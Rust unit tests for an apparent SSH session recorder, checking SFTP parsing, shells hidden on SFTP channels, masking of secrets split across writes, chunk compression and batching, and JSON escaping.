            .client_sent(&packet(FXP_INIT, &[&3u32.to_be_bytes()]))
            .is_ok());
        let reply = packet(FXP_DATA, &[&1u32.to_be_bytes(), &s(b"uid=0(root)")]);
        let not = sftp.server_sent(&reply).unwrap_err();
        assert_eq!(not.output, reply);
        // More before the exchange than a real one holds.
        let mut sftp = Sftp::default();
        let not = sftp
            .server_sent(&vec![0u8; MAX_BEFORE_VERSION + 1])
            .unwrap_err();
        assert_eq!(not.output.len(), MAX_BEFORE_VERSION + 1);
    }

    #[tokio::test]
    async fn a_shell_on_a_channel_asked_for_sftp_is_recorded_as_text() {
        let (verdict, events) = record(true, 64 * 1024, async |tap: &ChannelTap| {
            tap.subsystem("sftp");
            tap.output(&b("$ ")).await;
            tap.input(&b("echo HIDDEN-$((6*7))\n")).await;
            tap.output(&b("HIDDEN-42\n$ ")).await;
            tap.exit(0);
        })
        .await;
        assert_eq!(verdict, recording::Verdict::Whole { chunks: 1 });
        let text = |stream: &str| -> String {
            events
                .iter()
                .filter_map(|e| match (&e.kind, stream) {
                    (EventKind::Input { data }, "input") => Some(data.as_str()),
                    (EventKind::Output { data }, "output") => Some(data.as_str()),
                    _ => None,
                })
                .collect()
        };
        assert_eq!(text("input"), "echo HIDDEN-$((6*7))\n");
        assert_eq!(text("output"), "$ HIDDEN-42\n$ ");
    }

    fn rules(patterns: &[&str]) -> Masking {
        let patterns: Vec<String> = patterns.iter().map(|p| p.to_string()).collect();
        Masking::new(&patterns).unwrap().unwrap()
    }

    #[test]
    fn a_secret_split_across_writes_is_masked_and_other_text_passes_whole() {
        let m = rules(&["ghp_[A-Za-z0-9]{36}", "(?i)password: *\\S+"]);
        let token = format!("ghp_{}", "a1B2".repeat(9));
        let mut tail = MaskTail::default();
        let mut out = String::new();
        // The token split in three writes, the line ended by a fourth.
        out += &tail.push(&m, "line one ✓\r\nyour token: ");
        assert_eq!(out, "line one ✓\r\n", "the unfinished line is held");
        out += &tail.push(&m, &token[..10]);
        out += &tail.push(&m, &token[10..30]);
        out += &tail.push(&m, &format!("{} ok\r\nPassword: hunter2", &token[30..]));
        out += &tail.finish(&m);
        assert!(!out.contains("a1B2"), "{out}");
        assert!(!out.contains("hunter2"), "{out}");
        assert_eq!(
            out,
            format!(
                "line one ✓\r\nyour token: {} ok\r\n{}",
                "*".repeat(40),
                "*".repeat(17)
            )
        );
        // Without rules nothing is held or changed.
        assert!(Masking::new(&[]).unwrap().is_none());
        assert!(Masking::new(&["(".to_string()]).is_err());
        // A line longer than the window is not held forever.
        let mut tail = MaskTail::default();
        let long = "x".repeat(MASK_WINDOW + 100);
        assert_eq!(tail.push(&m, &long).len(), 100);
    }

    #[tokio::test]
    async fn masked_text_is_never_sealed_even_across_chunks_and_packets() {
        let token = format!("ghp_{}", "Zz09".repeat(9));
        let t = token.clone();
        // Small chunks: the output before, with and after the token spans
        // several.
        let session = async move |tap: &ChannelTap| {
            tap.shell();
            for i in 0..20 {
                tap.output(&b(format!("some output line {i}\r\n").as_bytes()))
                    .await;
            }
            tap.output(&b(format!("export GH={}", &t[..7]).as_bytes()))
                .await;
            tap.output(&b(&t.as_bytes()[7..20])).await;
            tap.output(&b(format!("{}\r\n$ ", &t[20..]).as_bytes()))
                .await;
            // Typed one key a packet, as a terminal sends it.
            tap.output(&b(b"Password: ")).await;
            for key in b"s3cr3t-pw\r" {
                tap.input(&b([*key])).await;
            }
            tap.output(&b(b"\r\nwelcome\r\n")).await;
            tap.exit(0);
        };
        let mask = rules(&["ghp_[A-Za-z0-9]{36}", "s3cr3t-\\S+"]);
        let (verdict, events) = record_masked(true, 64, Some(mask), session).await;
        let recording::Verdict::Whole { chunks } = verdict else {
            panic!("{verdict:?}");
        };
        assert!(chunks > 3, "{chunks}");
        let text: String = events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::Output { data } | EventKind::Input { data } => Some(data.as_str()),
                _ => None,
            })
            .collect();
        assert!(!text.contains("Zz09"), "{text}");
        assert!(!text.contains("s3cr3t"), "{text}");
        assert!(
            text.contains(&format!("export GH={}\r\n", "*".repeat(40))),
            "{text}"
        );
        assert!(text.contains("some output line 19\r\n"), "{text}");
        assert!(text.contains("welcome"), "{text}");
        assert!(text.contains(&"*".repeat(9)), "{text}");
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_busy_session_is_recorded_whole_in_fewer_larger_compressed_chunks() {
        // 9 MiB of log lines in SSH-sized messages, as fast as they come:
        // twice what the inbox holds, so the session also waits for its
        // recording on the way.
        let line = "2026-12-02T12:00:00.000Z INFO gatepass::api request served path=/v1/ssh/sign/ops status=200\n";
        let text = line.repeat(9 * 1024 * 1024 / line.len());
        assert!(text.len() > 2 * MAX_PENDING);
        let sent = text.clone();
        let r = record_with(
            false,
            64 * 1024,
            MAX_CHUNK_BYTES,
            None,
            async move |tap: &ChannelTap| {
                tap.exec(b"tail -f app.log");
                for part in sent.as_bytes().chunks(32 * 1024) {
                    tap.output(&b(part)).await;
                }
                tap.exit(0);
            },
        )
        .await;
        let recording::Verdict::Whole { chunks } = r.verdict else {
            panic!("{:?}", r.verdict);
        };
        // Cut at 64 KiB that would be 144 chunks and more; a chunk filled
        // this fast grows (up to 4 MiB once the text is seen to compress:
        // 4 of them, more when the worker is slowed).
        assert!((3..72).contains(&chunks), "{chunks} chunks");
        let out = output_of(&r.events);
        assert!(out == text, "{} of {} bytes", out.len(), text.len());
        assert!(matches!(
            r.events.last().map(|e| &e.kind),
            Some(EventKind::Exit { status: 0, command: Some(c) }) if c == "tail -f app.log"
        ));
        // Compressed before sealing: what is sealed, spooled and sent is a
        // small part of the text.
        assert!(r.sealed * 20 < text.len(), "{} bytes sealed", r.sealed);
    }

    /// The output events' text, in order.
    fn output_of(events: &[Event]) -> String {
        events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::Output { data } => Some(data.as_str()),
                _ => None,
            })
            .collect()
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn chunks_grow_past_the_sealed_limit_while_the_text_compresses() {
        // 9 MiB of log lines; chunks of 1 MiB of text, at most 256 KiB
        // sealed. The first chunk is held to 256 KiB of text (nothing is
        // known of how it compresses); it shrinks far more than eightfold,
        // so the next ones take 1 MiB each.
        let line = "2026-12-02T12:00:00.000Z INFO gatepass::api request served path=/v1/ssh/sign/ops status=200\n";
        let text = line.repeat(9 * 1024 * 1024 / line.len());
        let sent = text.clone();
        let r = record_sized(
            false,
            (1 << 20, 1 << 20, 256 * 1024),
            None,
            async move |tap: &ChannelTap| {
                for part in sent.as_bytes().chunks(32 * 1024) {
                    tap.output(&b(part)).await;
                }
            },
        )
        .await;
        let recording::Verdict::Whole { chunks } = r.verdict else {
            panic!("{:?}", r.verdict);
        };
        // Held to 256 KiB of text they would be 37 or more.
        assert!((9..=11).contains(&chunks), "{chunks} chunks");
        assert!(output_of(&r.events) == text);
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_chunk_that_does_not_compress_is_sealed_in_parts_cut_between_events() {
        // Log lines, then 1 MiB of text that compresses little (random
        // letters and digits), in chunks of 256 KiB of text, at most 32 KiB
        // sealed: the chunk after the log lines (which compress, so it
        // grows to 256 KiB) seals to far more and is sealed in parts; the
        // ones after it are held to 32 KiB of text.
        let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
        let text: String = (0..1 << 20)
            .map(|_| {
                x = x.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                let c = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
                    [(x >> 58) as usize % 62];
                char::from(c)
            })
            .collect();
        let line = "2026-12-02T12:00:00.000Z INFO gatepass::api request served status=200\n";
        let text = line.repeat(512 * 1024 / line.len()) + &text;
        let sent = text.clone();
        let r = record_sized(
            false,
            (256 * 1024, 256 * 1024, 32 * 1024),
            None,
            async move |tap: &ChannelTap| {
                for part in sent.as_bytes().chunks(16 * 1024) {
                    tap.output(&b(part)).await;
                }
            },
        )
        .await;
        let recording::Verdict::Whole { chunks } = r.verdict else {
            panic!("{:?}", r.verdict);
        };
        // Each part holds whole events and seals to at most 32 KiB (base64:
        // a third more, with the nonce and tag).
        assert!(chunks >= 16, "{chunks} chunks");
        assert!(
            r.largest <= (32 * 1024 + 28usize).div_ceil(3) * 4,
            "{}",
            r.largest
        );
        assert!(output_of(&r.events) == text);
    }

    #[tokio::test]
    async fn the_worker_takes_a_busy_sessions_messages_in_batches_not_one_by_one() {
        // 128 messages of 2 KiB (one batch's worth), the session yielding
        // after each as a bridge does between SSH messages: woken per
        // message, the worker would have recorded them in about as many
        // rounds, each a task switch and a trip to the blocking pool.
        let lines: Vec<String> = (0..128)
            .map(|i| format!("{i:05} {}\r\n", "x".repeat(2048 - 8)))
            .collect();
        let sent = lines.concat();
        let batches = Arc::new(AtomicU64::new(0));
        let seen = batches.clone();
        let r = record_with(
            false,
            64 * 1024,
            MAX_CHUNK_BYTES,
            None,
            async move |tap: &ChannelTap| {
                for line in &lines {
                    tap.output(&b(line)).await;
                    tokio::task::yield_now().await;
                }
                // Past the batch delay: everything queued has been taken.
                tokio::time::sleep(BATCH_DELAY * 3).await;
                let shared = &tap.recorder().shared;
                seen.store(shared.batches.load(Ordering::Relaxed), Ordering::Relaxed);
            },
        )
        .await;
        let batches = batches.load(Ordering::Relaxed);
        assert!((1..=8).contains(&batches), "{batches} batches");
        assert!(matches!(r.verdict, recording::Verdict::Whole { .. }));
        let out = output_of(&r.events);
        assert!(out == sent, "{} of {} bytes", out.len(), sent.len());
    }

    #[test]
    fn text_is_escaped_as_serde_json_escapes_it() {
        let mut cases: Vec<String> = vec![
            String::new(),
            "plain".into(),
            "exactly8".into(),
            "a \"quoted\" \\ path\r\n".into(),
            "✓ héllo 𝄞\u{7f}\u{1b}[0m\tend".into(),
            (0u8..0x20).map(char::from).collect(),
        ];
        // Each character that needs escaping at each place of a block
        // of words and past it, in texts of every length around a block.
        for c in (0u8..0x20).chain([b'"', b'\\', b'a', 0x7f]) {
            for at in 0..70 {
                let mut s = "x".repeat(at);
                s.push(char::from(c));
                s.push_str(&"y".repeat((at * 7) % 41));
                cases.push(s);
            }
        }
        // Two at any two places of a word, beside multi-byte characters
        // (a borrow in the bit tricks may flag bytes after the first).
        for a in 0..40 {
            for b in a + 1..44 {
                let mut s: Vec<char> = "ab✓cdé0123456789".repeat(3).chars().collect();
                s[a] = '\u{1}';
                s[b] = if b % 2 == 0 { '"' } else { '\n' };
                cases.push(s.into_iter().collect());
            }
        }
        for text in cases {
            let mut buf = Vec::new();
            write_json_str(&mut buf, &text);
            assert_eq!(
                String::from_utf8(buf).unwrap(),
                serde_json::to_string(&text).unwrap(),
                "{text:?}"
            );
        }
    }
}
